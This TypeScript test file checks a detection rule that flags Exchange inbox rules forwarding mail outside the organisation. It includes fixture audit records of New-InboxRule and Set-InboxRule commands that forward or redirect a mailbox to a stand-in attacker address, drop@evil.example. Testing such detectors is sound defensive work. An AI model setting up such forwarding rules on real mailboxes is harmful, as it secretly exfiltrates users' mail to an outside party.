import type { Scenario } from '../../../testing/scenario.ts';
import { auditRecords, cmdlet } from '../fixtures.ts';

const inboxRule = (extra: Record<string, string>, operation = 'New-InboxRule') =>
  cmdlet(operation, { Mailbox: 'ana@fabrikam.example', Name: 'fw', StopProcessingRules: 'True', ...extra });

export const scenarios: Scenario[] = [
  {
    name: 'New-InboxRule ForwardTo drop@evil.example',
    fires: true,
    events: auditRecords([inboxRule({ ForwardTo: 'drop@evil.example' })]),
    expect: {
      severity: 'high',
      entityId: 'ana@fabrikam.example',
      summaryIncludes: ['created inbox rule "fw" on ana@fabrikam.example forwarding mail to drop@evil.example'],
    },
  },
  {
    name: 'Set-InboxRule RedirectTo in the "Name" [SMTP:…] form',
    fires: true,
    events: auditRecords([inboxRule({ RedirectTo: '"Drop" [SMTP:drop@evil.example]' }, 'Set-InboxRule')]),
    expect: { details: { destination: 'drop@evil.example' } },
  },
  {
    name: 'ForwardTo a colleague',
    fires: false,
    events: auditRecords([inboxRule({ ForwardTo: 'u02@fabrikam.example' })]),
  },
  {
    name: 'smtp: prefixed ; list with internal addresses only',
    fires: false,
    events: auditRecords([inboxRule({ ForwardTo: 'smtp:u02@fabrikam.example;smtp:u03@sales.fabrikam.example' })]),
  },
  {
    name: 'ForwardTo the subsidiary domain configured for the tenant',
    fires: false,
    events: auditRecords([inboxRule({ ForwardTo: 'lee@northwind.example' })]),
    settings: {
      msps: {
        'msp-contoso': {
          tenants: { 'tenant-fabrikam': { ruleParams: { 'EXO-001': { internalDomains: ['northwind.example'] } } } },
        },
      },
    },
  },
  {
    name: 'rule that only moves mail',
    fires: false,
    events: auditRecords([inboxRule({ MoveToFolder: 'Newsletters', From: 'news@vendor.example' })]),
  },
];
